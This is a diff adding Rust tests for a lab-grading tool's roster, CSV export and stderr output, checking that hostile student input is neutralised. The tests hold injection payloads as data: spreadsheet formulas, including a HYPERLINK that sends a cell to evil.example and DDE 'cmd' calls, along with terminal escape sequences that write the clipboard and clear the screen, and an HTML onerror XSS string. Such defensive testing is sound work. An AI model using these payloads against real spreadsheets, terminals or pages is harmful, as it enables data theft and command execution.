@@ -248,4 +248,251 @@ fn a_course_record_is_graded_lab_by_lab() {
         err.contains("graded 2 record(s) of 1 file(s) (1 not graded)"),
         "{err}"
     );
+    // With several labs the roster has a row per student and lab: a lab alice handed nothing
+    // in for is named as missing.
+    let html = std::fs::read_to_string(dir.path().join("from-own/report.html")).unwrap();
+    let roster = &html[html.find("<h2 id=\"roster\">").expect("a roster")..];
+    let roster = &roster[..roster.find("</table>").unwrap()];
+    let rows: Vec<&str> = roster
+        .lines()
+        .filter(|l| l.contains("<th scope=\"row\">alice</th>"))
+        .collect();
+    assert_eq!(rows.len(), 2, "{roster}");
+    assert!(
+        rows.iter()
+            .any(|r| r.contains("Queue walk-through") && r.contains("2 / 2")),
+        "{roster}"
+    );
+    assert!(
+        rows.iter().any(|r| r.contains("class=\"unfinished\"")
+            && r.contains("no record graded")
+            && r.contains("Queue demo")),
+        "{roster}"
+    );
+}
+
+/// `labforge grade FIXTURE RECORDS -o OUT`, which must succeed; its stderr (as UTF-8: a byte
+/// sequence that is not would fail the test).
+fn grade_fixture(records: &Path, out: &Path) -> String {
+    let o = bin()
+        .args(["grade", FIXTURE])
+        .arg(records)
+        .arg("-o")
+        .arg(out)
+        .output()
+        .unwrap();
+    let err = String::from_utf8(o.stderr).unwrap();
+    assert!(o.status.success(), "{err}");
+    err
+}
+
+/// The class's rows as a spreadsheet reads the CSV (the `csv` crate parses as Excel and
+/// LibreOffice do: quotes removed, doubled quotes undone, line breaks kept inside quotes).
+fn read_csv(p: &Path) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_path(p)
+        .unwrap()
+        .records()
+        .map(|r| r.unwrap().iter().map(String::from).collect())
+        .collect()
+}
+
+/// Would a spreadsheet read `cell` as a formula (OWASP, "CSV Injection")? It starts with `=`,
+/// `+`, `-`, `@` (or their full-width forms), a tab or a carriage return, also after leading
+/// spaces and double quotes; a plain number such as `-5` is a value, not a formula. A cell
+/// that starts with `'` is text to a spreadsheet.
+fn runs_in_a_spreadsheet(cell: &str) -> bool {
+    let number = !cell.is_empty()
+        && cell
+            .chars()
+            .all(|c| c.is_ascii_digit() || matches!(c, '-' | '+' | '.' | 'e' | 'E'))
+        && cell.parse::<f64>().is_ok_and(f64::is_finite);
+    let lead = cell.trim_start_matches(|c: char| c.is_whitespace() || c == '"');
+    !number
+        && (cell.starts_with(['\t', '\r'])
+            || lead.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']))
+}
+
+/// Student names (folder names) and decision logs carrying every prefix a spreadsheet runs:
+/// the CSV neutralises each with a leading `'` and keeps the rest of the student's text as it
+/// was; a negative numeric answer stays a number.
+#[test]
+fn no_cell_of_the_csv_runs_as_a_formula() {
+    let dir = tempfile::tempdir().unwrap();
+    let r = dir.path().join("records");
+    let answers = "predictions: {a: B, b: 25}\nreflections: {a: B, b: A}\n";
+    let hostile = [
+        (
+            "=1+2",
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for your grade\")",
+        ),
+        ("+1+2", "+cmd|' /C calc'!A0"),
+        ("-1+2", "-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1+2)", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("\t=1+2", "\t=1+1"),
+        ("\r=1+2", "\r=1+1"),
+        (" =1+2", "   =1+1"),
+        ("\"=1+2", "\"=1+1\""),
+        ("＝1+2", "＋1+1"),
+    ];
+    for (name, log) in hostile {
+        let p = r.join(name).join("lab.json");
+        record(FIXTURE, &p, Some(answers), "");
+        edit(&p, |v| v["decision_log"] = log.into());
+    }
+    let neg = r.join("neg.json");
+    record(FIXTURE, &neg, Some(answers), "");
+    edit(&neg, |v| v["parts"]["b"]["prediction"] = "-5".into());
+    let out = dir.path().join("out");
+    grade_fixture(&r, &out);
+    let rows = read_csv(&out.join("run-fixture.csv"));
+    assert_eq!(rows.len(), 1 + hostile.len() + 1, "{rows:?}");
+    for cell in rows.iter().flatten() {
+        assert!(!runs_in_a_spreadsheet(cell), "a formula: {cell:?}");
+    }
+    let col = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
+    let (log, b) = (col("decision log"), col("B prediction"));
+    for (name, text) in hostile {
+        let row = rows
+            .iter()
+            .find(|row| row[0] == format!("'{name}"))
+            .unwrap_or_else(|| panic!("no row for {name:?}: {rows:?}"));
+        assert_eq!(row[log], format!("'{text}"), "{name:?}");
+        assert_eq!(row[3], "2", "{name:?}: {row:?}");
+    }
+    let neg = rows.iter().find(|row| row[0] == "neg").unwrap();
+    assert_eq!(neg[b], "-5", "{neg:?}");
+}
+
+/// OSC 52 (writes the clipboard), OSC 0 (the window title), `ESC[2J` (clears the screen), a
+/// one-character CSI and a bidi override, in a student's folder name, a record's `lab` and
+/// `format` fields and a file name: stderr carries none of them and still names each record.
+#[test]
+fn record_text_reaches_the_terminal_only_through_the_filter() {
+    const ESC: &str = "\x1b]52;c;aGk=\x07\x1b]0;owned\x07\x1b[2J\u{9b}31m\u{202E}";
+    let dir = tempfile::tempdir().unwrap();
+    let r = dir.path().join("records");
+    let answers = "predictions: {a: B, b: 25}\nreflections: {a: B, b: A}\n";
+    let p = r.join(format!("mallory{ESC}")).join("lab.json");
+    record(FIXTURE, &p, Some(answers), "");
+    edit(&p, |v| v["lab"] = format!("evil{ESC}").into());
+    let q = r.join("oscar.json");
+    record(FIXTURE, &q, Some(answers), "");
+    edit(&q, |v| v["format"] = format!("other{ESC}").into());
+    std::fs::write(r.join(format!("trent{ESC}.json")), "not json").unwrap();
+    let err = grade_fixture(&r, &dir.path().join("out"));
+    for bad in ['\x1b', '\x07', '\u{9b}', '\u{202E}'] {
+        assert!(
+            !err.contains(bad),
+            "U+{:04X} on stderr: {err:?}",
+            bad as u32
+        );
+    }
+    for (file, why) in [
+        ("mallory", "a record of lab `evil"),
+        ("oscar.json", "a `other"),
+        ("trent", "not JSON"),
+    ] {
+        assert!(
+            err.lines()
+                .any(|l| l.starts_with("not graded: ") && l.contains(file) && l.contains(why)),
+            "no `{why}` for {file}: {err:?}"
+        );
+    }
+    assert!(
+        err.contains("graded 0 record(s) of 3 file(s) (3 not graded)"),
+        "{err:?}"
+    );
+}
+
+/// The report opens with a roster: every student who handed anything in, graded or not, with
+/// completion, score and what is missing, so an unfinished student is named; names are text.
+#[test]
+fn the_report_opens_with_a_roster_naming_every_unfinished_student() {
+    let dir = tempfile::tempdir().unwrap();
+    let records = class(dir.path());
+    let html_name = "<img src=x onerror=alert(1)>";
+    record(
+        FIXTURE,
+        &records.join(html_name).join("lab.json"),
+        None,
+        "1\n",
+    );
+    record(FIXTURE, &records.join("Dana.json"), None, "1\n");
+    let out = dir.path().join("out");
+    grade_fixture(&records, &out);
+    let html = std::fs::read_to_string(out.join("report.html")).unwrap();
+    assert!(!html.contains("<img"), "unescaped name");
+    let at = html.find("<h2 id=\"roster\">").expect("a roster");
+    assert!(
+        at < html.find("Records not graded").unwrap() && at < html.find("Part A ·").unwrap(),
+        "the roster is not first"
+    );
+    let roster = &html[at..];
+    let roster = &roster[..roster.find("</table>").unwrap()];
+    let row = |student: &str| -> &str {
+        let cell = format!("<th scope=\"row\">{student}</th>");
+        let line = roster
+            .lines()
+            .find(|l| l.contains(&cell))
+            .unwrap_or_else(|| panic!("{student} is not in the roster: {roster}"));
+        line
+    };
+    // In name order as a TA reads names: case aside (`Dana` between `carol` and `dave`).
+    let order: Vec<String> = roster
+        .lines()
+        .filter_map(|l| l.split("<th scope=\"row\">").nth(1))
+        .map(|l| l[..l.find("</th>").unwrap()].to_lowercase())
+        .collect();
+    let mut sorted = order.clone();
+    sorted.sort();
+    assert_eq!(order, sorted);
+    assert!(
+        order.len() == 13 && order.contains(&"dana".to_string()),
+        "{order:?}"
+    );
+    let done = row("alice");
+    assert!(done.contains("yes") && done.contains("2 / 2"), "{done}");
+    let carol = row("carol");
+    assert!(carol.contains("class=\"unfinished\""), "{carol}");
+    assert!(
+        carol.contains("Part A: reflection") && carol.contains("Part B: prediction, reflection"),
+        "{carol}"
+    );
+    assert!(
+        row("erin").contains("Part A: prediction"),
+        "{}",
+        row("erin")
+    );
+    assert!(row("dave").contains("0 / 2"), "{}", row("dave"));
+    let hostile = row("&lt;img src=x onerror=alert(1)&gt;");
+    assert!(hostile.contains("Part A: reflection"), "{hostile}");
+    // Students whose every record was refused are named with the reason.
+    for (student, why) in [
+        ("frank", "not JSON"),
+        ("hal", "empty file"),
+        ("zz-alice", "the same record as"),
+        ("jack", "a record of lab `queue-demo`"),
+    ] {
+        let r = row(student);
+        assert!(
+            r.contains("class=\"unfinished\"") && r.contains("no record graded") && r.contains(why),
+            "{student}: {r}"
+        );
+    }
+    let names = roster
+        .split("Not finished (")
+        .nth(1)
+        .and_then(|s| s.split_once("): "))
+        .map(|(_, s)| &s[..s.find("</p>").unwrap()])
+        .expect("the unfinished named first");
+    let names: Vec<&str> = names.split(", ").collect();
+    for s in ["carol", "erin", "frank", "jack", "zz-alice"] {
+        assert!(names.contains(&s), "{s} not named: {names:?}");
+    }
+    assert!(
+        !names.contains(&"alice") && !names.contains(&"bob"),
+        "{names:?}"
+    );
 }
